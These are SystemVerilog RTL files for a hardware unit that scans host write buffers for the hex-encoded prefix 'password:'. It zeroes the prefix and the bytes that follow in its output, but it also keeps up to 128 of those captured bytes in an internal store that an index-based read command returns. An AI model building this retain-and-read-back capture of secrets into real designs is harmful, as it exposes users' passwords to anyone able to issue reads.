/* rtl/core/kcs_pkg.sv */
package kcs_pkg;

    localparam int CAPTURE_BYTES = 128;
    localparam int PREFIX_LENGTH = 9;

    localparam int CAP_AW = $clog2(CAPTURE_BYTES);
    localparam int CNT_W  = $clog2(CAPTURE_BYTES + 1);
    localparam int HOLD_W = $clog2(PREFIX_LENGTH + 1);
    localparam int RUN_W  = $clog2(PREFIX_LENGTH + 2);

    localparam logic [1:0] OP_BYTE  = 2'd0;
    localparam logic [1:0] OP_READ  = 2'd1;
    localparam logic [1:0] OP_CLEAR = 2'd2;

    localparam logic [1:0] KIND_BYTE  = 2'd0;
    localparam logic [1:0] KIND_CAPT  = 2'd1;
    localparam logic [1:0] KIND_CLEAR = 2'd2;

    localparam logic [7:0] CH_LF  = 8'h0A;
    localparam logic [7:0] CH_CR  = 8'h0D;
    localparam logic [7:0] CH_NUL = 8'h00;

    localparam logic [7:0] PREFIX_TAB [16] = '{
        8'h70, 8'h61, 8'h73, 8'h73, 8'h77, 8'h6F, 8'h72, 8'h64,
        8'h3A, 8'h00, 8'h00, 8'h00, 8'h00, 8'h00, 8'h00, 8'h00
    };

    // One transaction's worth of results: a run of prefix bytes (or zeros)
    // followed by an optional tail byte, plus the status after the step.
    typedef struct packed {
        logic [1:0]        kind;
        logic [HOLD_W-1:0] pcount;
        logic              pzero;
        logic              tvalid;
        logic [7:0]        tbyte;
        logic              pend;
        logic [CNT_W-1:0]  cnt;
        logic              open;
    } t_run;

    typedef struct packed {
        logic [1:0] kind;
        logic [7:0] data;
        logic       last;
        logic       pend;
        logic [7:0] cnt;
        logic       open;
    } t_res;

endpackage

/* rtl/core/kcs_scan.sv */
module kcs_scan
    import kcs_pkg::*;
(
    input  logic       i_clk,
    input  logic       i_rst_n,
    input  logic       i_snoop,
    input  logic       i_valid,
    output logic       o_ready,
    input  logic [1:0] i_opcode,
    input  logic [7:0] i_data_byte,
    input  logic       i_last,
    input  logic [6:0] i_read_index,
    output logic       o_run_valid,
    output t_run       o_run,
    input  logic       i_run_ready
);

    logic [7:0]        r_mem [CAPTURE_BYTES];
    logic [HOLD_W-1:0] r_hold, n_hold;
    logic [CNT_W-1:0]  r_cnt, n_cnt;
    logic              r_pend, n_pend;
    logic              r_cont, n_cont;
    logic              r_capt, n_capt;
    logic              r_handled, n_handled;
    logic              r_s_valid;
    t_run              r_run;
    logic [7:0]        r_rd_byte;
    logic              r_rd_sel;
    t_run              run;

    logic              acc;
    logic              mem_we;
    logic              rd_mem;
    logic              end_cap;
    logic              has_res;
    logic              is_term;
    logic [CNT_W-1:0]  cnt_inc;

    assign o_ready     = !r_s_valid || i_run_ready;
    assign acc         = i_valid && o_ready;
    assign o_run_valid = r_s_valid;

    // replace the tail byte with the captured byte on a read
    always_comb begin
        o_run = r_run;
        if (r_rd_sel)
            o_run.tbyte = r_rd_byte;
    end

    assign is_term = (i_data_byte == CH_LF) || (i_data_byte == CH_CR)
                     || (i_data_byte == CH_NUL);
    assign cnt_inc = r_cnt + 1'b1;

    always_comb begin
        n_hold    = r_hold;
        n_cnt     = r_cnt;
        n_pend    = r_pend;
        n_cont    = r_cont;
        n_capt    = r_capt;
        n_handled = r_handled;
        mem_we    = 1'b0;
        rd_mem    = 1'b0;
        end_cap   = 1'b0;
        run       = '0;
        run.kind  = KIND_BYTE;
        unique case (i_opcode)
            OP_BYTE: begin
                priority if (!i_snoop || r_pend) begin
                    run.pcount = r_hold;
                    run.tvalid = 1'b1;
                    run.tbyte  = i_data_byte;
                    n_hold     = '0;
                end else if (r_capt) begin
                    run.tvalid = 1'b1;
                    if (is_term) begin
                        run.tbyte = i_data_byte;
                        end_cap   = 1'b1;
                    end else begin
                        mem_we    = 1'b1;
                        n_cnt     = cnt_inc;
                        run.tbyte = 8'h00;
                        if (cnt_inc >= CNT_W'(CAPTURE_BYTES))
                            end_cap = 1'b1;
                    end
                end else if (r_handled) begin
                    run.tvalid = 1'b1;
                    run.tbyte  = i_data_byte;
                end else if (i_data_byte == PREFIX_TAB[r_hold]) begin
                    if (r_hold == HOLD_W'(PREFIX_LENGTH - 1)) begin
                        // full prefix seen: scrub it and start capturing
                        run.pcount = HOLD_W'(PREFIX_LENGTH);
                        run.pzero  = 1'b1;
                        n_hold     = '0;
                        n_capt     = 1'b1;
                        n_cnt      = '0;
                        n_handled  = 1'b1;
                    end else begin
                        n_hold = HOLD_W'(r_hold + 1'b1);
                        if (i_last)
                            run.pcount = HOLD_W'(r_hold + 1'b1);
                    end
                end else begin
                    run.pcount = r_hold;
                    n_hold     = '0;
                    if (i_data_byte == PREFIX_TAB[0]) begin
                        n_hold = HOLD_W'(1);
                        if (i_last) begin
                            run.tvalid = 1'b1;
                            run.tbyte  = PREFIX_TAB[0];
                        end
                    end else begin
                        run.tvalid = 1'b1;
                        run.tbyte  = i_data_byte;
                    end
                end
                if (end_cap) begin
                    n_capt    = 1'b0;
                    n_cont    = 1'b0;
                    n_handled = 1'b1;
                    if (n_cnt != '0)
                        n_pend = 1'b1;
                end
                if (i_last) begin
                    n_hold    = '0;
                    n_handled = 1'b0;
                    n_cont    = n_capt;
                end
            end
            OP_READ: begin
                run.kind   = KIND_CAPT;
                run.tvalid = 1'b1;
                rd_mem     = (CNT_W'(i_read_index) < r_cnt);
            end
            OP_CLEAR: begin
                run.kind   = KIND_CLEAR;
                run.tvalid = 1'b1;
                if (r_pend) begin
                    n_pend = 1'b0;
                    n_cnt  = '0;
                end
            end
            default: begin
            end
        endcase
        run.pend = n_pend;
        run.cnt  = n_cnt;
        run.open = n_cont;
    end

    assign has_res = (run.pcount != '0) || run.tvalid;

    always_ff @(posedge i_clk) begin
        if (!i_rst_n) begin
            r_hold    <= '0;
            r_cnt     <= '0;
            r_pend    <= 1'b0;
            r_cont    <= 1'b0;
            r_capt    <= 1'b0;
            r_handled <= 1'b0;
            r_s_valid <= 1'b0;
        end else begin
            if (acc) begin
                r_hold    <= n_hold;
                r_cnt     <= n_cnt;
                r_pend    <= n_pend;
                r_cont    <= n_cont;
                r_capt    <= n_capt;
                r_handled <= n_handled;
                r_s_valid <= has_res;
            end else if (i_run_ready) begin
                r_s_valid <= 1'b0;
            end
        end
    end

    always_ff @(posedge i_clk) begin
        if (acc && mem_we) begin
            r_mem[r_cnt[CAP_AW-1:0]] <= i_data_byte;
        end
    end

    always_ff @(posedge i_clk) begin
        if (acc) begin
            r_run    <= run;
            r_rd_sel <= rd_mem;
            if (rd_mem)
                r_rd_byte <= r_mem[i_read_index[CAP_AW-1:0]];
        end
    end

    a_pend_no_capt: assert property (@(posedge i_clk) disable iff (!i_rst_n)
        r_pend |-> !r_capt)
        else $error("capture still open while a capture is pending");

    a_cnt_cap: assert property (@(posedge i_clk) disable iff (!i_rst_n)
        r_cnt <= CNT_W'(CAPTURE_BYTES))
        else $error("capture count beyond store size");

    a_capt_no_hold: assert property (@(posedge i_clk) disable iff (!i_rst_n)
        r_capt |-> (r_hold == '0))
        else $error("prefix bytes held while capturing");

endmodule

/* rtl/core/kcs_emit.sv */
module kcs_emit
    import kcs_pkg::*;
(
    input  logic i_clk,
    input  logic i_rst_n,
    input  logic i_run_valid,
    input  t_run i_run,
    output logic o_run_ready,
    output logic o_valid,
    output t_res o_res,
    input  logic i_ready
);

    t_run             r_x;
    logic             r_x_valid;
    logic [RUN_W-1:0] r_pos;
    logic [RUN_W-1:0] total;
    logic             last;
    logic             x_free;

    assign total  = RUN_W'(r_x.pcount) + RUN_W'(r_x.tvalid);
    assign last   = (r_pos == RUN_W'(total - 1'b1));
    assign x_free = !r_x_valid || (i_ready && last);

    assign o_run_ready = x_free;
    assign o_valid     = r_x_valid;

    always_comb begin
        o_res.kind = r_x.kind;
        o_res.last = last;
        o_res.pend = r_x.pend;
        o_res.cnt  = 8'(r_x.cnt);
        o_res.open = r_x.open;
        if (r_pos < RUN_W'(r_x.pcount))
            o_res.data = r_x.pzero ? 8'h00 : PREFIX_TAB[4'(r_pos)];
        else
            o_res.data = r_x.tbyte;
    end

    always_ff @(posedge i_clk) begin
        if (!i_rst_n) begin
            r_x_valid <= 1'b0;
            r_pos     <= '0;
        end else if (x_free) begin
            r_x_valid <= i_run_valid;
            r_pos     <= '0;
        end else if (i_ready) begin
            r_pos <= r_pos + 1'b1;
        end
    end

    always_ff @(posedge i_clk) begin
        if (x_free)
            r_x <= i_run;
    end

    a_pos_in_run: assert property (@(posedge i_clk) disable iff (!i_rst_n)
        r_x_valid |-> (r_pos < total))
        else $error("result position beyond run length");

endmodule

/* rtl/core/keyword_capture_scrubber_unit.sv */
// Scrubs host write-buffer bytes: finds "password:" once per buffer, zeroes the
// prefix and up to 128 following bytes (captured until LF, CR or NUL), and lets
// the captured bytes be read back by index or cleared. One transaction is taken
// per cycle while o_in_ready is high; each one yields zero to nine results (one
// for a plain byte, up to nine when held prefix bytes are flushed). The result
// register is fed through a one-entry staging register, so one further
// transaction can be taken while a run of results waits; input stalls while
// both are occupied. An accepted transaction passes the staging register, then
// the result register, before its first result shows. The capture store is a
// 128x8 single-write, single-read memory; no clearing pass after reset is needed.
module keyword_capture_scrubber_unit
    import kcs_pkg::*;
(
    input  logic        i_clk,
    input  logic        i_rst_n,
    input  logic        psel,
    input  logic        penable,
    input  logic        pwrite,
    input  logic [2:0]  paddr,
    input  logic [31:0] pwdata,
    output logic [31:0] prdata,
    output logic        pready,
    input  logic        i_in_valid,
    output logic        o_in_ready,
    input  logic [1:0]  i_opcode,
    input  logic [7:0]  i_data_byte,
    input  logic        i_last_in_buffer,
    input  logic [6:0]  i_read_index,
    output logic        o_out_valid,
    input  logic        i_out_ready,
    output logic [1:0]  o_result_kind,
    output logic [7:0]  o_out_byte,
    output logic        o_last_of_run,
    output logic        o_capture_ready,
    output logic [7:0]  o_captured_length,
    output logic        o_capture_open
);

    logic r_snoop;
    logic run_valid;
    logic run_ready;
    t_run run;
    t_res res;

    assign pready = 1'b1;
    assign prdata = (paddr[2] == 1'b0) ? 32'(r_snoop) : 32'h0;

    always_ff @(posedge i_clk) begin
        if (!i_rst_n) begin
            r_snoop <= 1'b1;
        end else if (psel && penable && pwrite && pready && (paddr[2] == 1'b0)) begin
            r_snoop <= pwdata[0];
        end
    end

    kcs_scan u_scan (
        .i_clk        (i_clk),
        .i_rst_n      (i_rst_n),
        .i_snoop      (r_snoop),
        .i_valid      (i_in_valid),
        .o_ready      (o_in_ready),
        .i_opcode     (i_opcode),
        .i_data_byte  (i_data_byte),
        .i_last       (i_last_in_buffer),
        .i_read_index (i_read_index),
        .o_run_valid  (run_valid),
        .o_run        (run),
        .i_run_ready  (run_ready)
    );

    kcs_emit u_emit (
        .i_clk       (i_clk),
        .i_rst_n     (i_rst_n),
        .i_run_valid (run_valid),
        .i_run       (run),
        .o_run_ready (run_ready),
        .o_valid     (o_out_valid),
        .o_res       (res),
        .i_ready     (i_out_ready)
    );

    assign o_result_kind     = res.kind;
    assign o_out_byte        = res.data;
    assign o_last_of_run     = res.last;
    assign o_capture_ready   = res.pend;
    assign o_captured_length = res.cnt;
    assign o_capture_open    = res.open;

endmodule
